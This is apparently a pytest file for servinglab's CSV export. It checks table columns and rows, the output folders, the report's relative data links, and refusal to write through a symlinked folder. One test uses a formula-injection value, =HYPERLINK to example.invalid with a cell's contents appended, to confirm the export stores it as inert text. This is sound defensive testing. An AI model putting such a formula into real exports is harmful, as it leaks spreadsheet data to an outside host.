"""``servinglab export csv``: the decision table, latency stages and lifecycle trials of the stored runs as CSV,
and the report's data section linking the run's files and those tables by paths relative to reports/."""

from __future__ import annotations

import csv
import html
import json
import re
import shutil
import urllib.parse
from pathlib import Path

import pytest
from conftest import run_cli

from servinglab import records, report
from servinglab.report import csvexport
from servinglab.report.rundata import load_run
from servinglab.report.table import ROWS

RUNS = Path(__file__).resolve().parent / "fixtures" / "report-runs"
NAMES = ["cluster-full", "cluster-partial", "cluster-failed"]


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or []), list(reader)


def number(text: str) -> float | None:
    return float(text) if text else None


@pytest.mark.parametrize("name", NAMES)
def test_each_table_has_its_columns_and_a_row_per_record(name, tmp_path):
    run_dir = RUNS / name
    written = csvexport.export_csv(run_dir, tmp_path / "out")
    assert [p.name for p in written] == ["decision_table.csv", "latency_stages.csv", "lifecycle_trials.csv"]
    layers = list(json.loads((run_dir / "run.json").read_text())["params"]["layers"])

    columns, cells = read_csv(tmp_path / "out" / "decision_table.csv")
    assert tuple(columns) == csvexport.DECISION_COLUMNS
    assert len(cells) == len(ROWS) * len(layers)
    assert {c["layer"] for c in cells} == set(layers) and {c["row"] for c in cells} == {r.key for r in ROWS}
    table = report.decision_table(load_run(run_dir)).cells()
    for c in cells:
        cell = table[c["row"]][c["layer"]]
        assert (c["value"], c["status"], c["badge"]) == (cell.text, cell.status, cell.badge)

    stages = records.read(run_dir, records.LATENCY_STAGES).rows
    columns, rows = read_csv(tmp_path / "out" / "latency_stages.csv")
    assert tuple(columns) == csvexport.STAGE_COLUMNS
    assert len(rows) == len(stages)
    for row, stage in zip(rows, stages):
        s = stage["summary"]
        assert (row["layer"], row["stage"]) == (stage["layer"], stage["stage"])
        assert row["validity"] == stage["validity"]["verdict"]
        assert number(row["ttft_p50_ms"]) == s["median_ttft_ms"] and number(row["e2e_p95_ms"]) == s.get("p95_e2el_ms")
        assert number(row["request_throughput_req_s"]) == s["request_throughput"]
        low, high = stage["uncertainty"]["intervals"]["median_ttft_ms"]
        assert (number(row["ttft_p50_ci_low_ms"]), number(row["ttft_p50_ci_high_ms"])) == (low, high)

    trials = records.read(run_dir, records.LIFECYCLE).rows
    columns, rows = read_csv(tmp_path / "out" / "lifecycle_trials.csv")
    assert tuple(columns) == csvexport.LIFECYCLE_COLUMNS
    assert len(rows) == len(trials)
    for row, trial in zip(rows, trials):
        assert (row["experiment"], row["status"]) == (trial["experiment"], trial["status"])
        assert int(row["trial"]) == trial["trial"] + 1
        assert row["refused_by"] == (trial.get("refused_by") or "") and row["reason"] == (trial.get("reason") or "")
        assert json.loads(row["measurements_json"]) == trial["measurements"]


def test_a_failed_trial_keeps_its_whole_reason():
    _, rows = read_csv_text(csvexport.csv_tables(load_run(RUNS / "cluster-failed"))["lifecycle_trials.csv"])
    failed = [r for r in rows if r["status"] == "failed"]
    assert failed and any("\n" in r["reason"] for r in failed)  # a multi-line reason (a log) is one quoted field


def read_csv_text(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(text.splitlines(keepends=True))
    return list(reader.fieldnames or []), list(reader)


def test_the_cli_writes_into_reports_csv_of_the_current_folder(tmp_path):
    run_dir = tmp_path / "run"
    shutil.copytree(RUNS / "cluster-full", run_dir)
    with (run_dir / "data" / "latency_stages.jsonl").open("a") as f:
        f.write("{not a record\n")
    done = run_cli("export", "csv", str(run_dir), "--out", str(tmp_path / "out"), timeout=300)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == [str(tmp_path / "out" / n) for n in csvexport.CSV_FILES]
    # A line that cannot be read is said, and left out, as the report leaves it out.
    assert f"warning: {run_dir}/data/latency_stages.jsonl: 1 line could not be read" in done.stderr
    _, rows = read_csv(tmp_path / "out" / "latency_stages.csv")
    assert len(rows) == len(records.read(run_dir, records.LATENCY_STAGES).rows) == 16
    # The other format is still there under its name.
    assert run_cli("export", "llmd-benchmark", str(run_dir), "--out", str(tmp_path / "br"), timeout=300).returncode == 0
    missing = run_cli("export", "csv", str(tmp_path / "nope"), timeout=300)
    assert missing.returncode == 2 and len(missing.stderr.strip().splitlines()) == 1
    assert str(tmp_path / "nope") in missing.stderr


def test_the_default_folder_is_reports_csv_of_the_working_directory(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    written = csvexport.export_csv(RUNS / "cluster-partial")
    context = json.loads((RUNS / "cluster-partial" / "run.json").read_text())
    assert [p.parent for p in written] == [tmp_path / "reports" / "csv" / f"{context['study']}-{context['run_id']}"] * 3


def hrefs(page: str) -> list[str]:
    data = page[page.index('id="data"'):]
    return [html.unescape(h) for h in re.findall(r'href="([^"]+)"', data)]


@pytest.mark.parametrize("name", NAMES)
def test_the_data_section_links_resolve_from_reports_beside_runs(name, tmp_path):
    context = json.loads((RUNS / name / "run.json").read_text())
    run_dir = tmp_path / "runs" / context["study"] / context["run_id"]
    shutil.copytree(RUNS / name, run_dir)
    published = report.publish(run_dir, tmp_path / "reports")
    links = hrefs(published.read_text())
    data_files = ["run.json"] + sorted(p.name for p in (run_dir / "data").glob("*.jsonl"))
    assert len(links) == len(data_files) + len(csvexport.CSV_FILES)
    for link in links:
        assert not urllib.parse.urlsplit(link).scheme and not link.startswith("/"), link
        assert (published.parent / urllib.parse.unquote(link)).resolve().is_file(), link
    assert f"../runs/{context['study']}/{context['run_id']}/data/deployments.jsonl" in links
    # The linked CSVs are the export's files, and the newest copy (<study>.html) links the same ones.
    linked_csv = [published.parent / urllib.parse.unquote(h) for h in links if h.endswith(".csv")]
    assert [p.read_text() for p in linked_csv] == list(csvexport.csv_tables(load_run(run_dir)).values())
    assert hrefs((published.parent / f"{context['study']}.html").read_text()) == links
    # Same data, same layout: same page.
    before = published.read_bytes()
    assert report.publish(run_dir, tmp_path / "reports").read_bytes() == before


def test_a_text_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    """A neighbour's run whose failure reason is a spreadsheet formula: it stays text in the CSV."""
    run_dir = tmp_path / "run"
    shutil.copytree(RUNS / "cluster-failed", run_dir)
    path = run_dir / "data" / "lifecycle.jsonl"
    lines = path.read_text().splitlines()
    index = next(i for i, line in enumerate(lines) if json.loads(line)["status"] == "failed")
    trial = json.loads(lines[index])
    trial["reason"] = '=HYPERLINK("http://example.invalid/?"&A1,"details")'
    lines[index] = json.dumps(trial)
    path.write_text("\n".join(lines) + "\n")
    _, rows = read_csv_text(csvexport.csv_tables(load_run(run_dir))["lifecycle_trials.csv"])
    assert rows[index]["reason"] == "'" + trial["reason"]
    assert rows[index]["result"].startswith("failed: =HYPERLINK")  # not at a field's start: left as it is
    # Numbers are numbers, negative ones included.
    assert csvexport.csv_text(("a", "b"), [{"a": -1.5, "b": "-x"}]) == "a,b\n-1.5,'-x\n"


def test_a_link_named_csv_in_the_reports_folder_is_not_written_through(tmp_path):
    """A neighbour's link reports/csv → elsewhere would have the tables land on its target: refused, exit 2."""
    from servinglab import cli

    out, elsewhere = tmp_path / "reports", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "csv").symlink_to(elsewhere)
    assert cli.main(["report", str(RUNS / "cluster-partial"), "--out", str(out)]) == cli.EXIT_BAD_INPUT
    assert list(elsewhere.iterdir()) == []
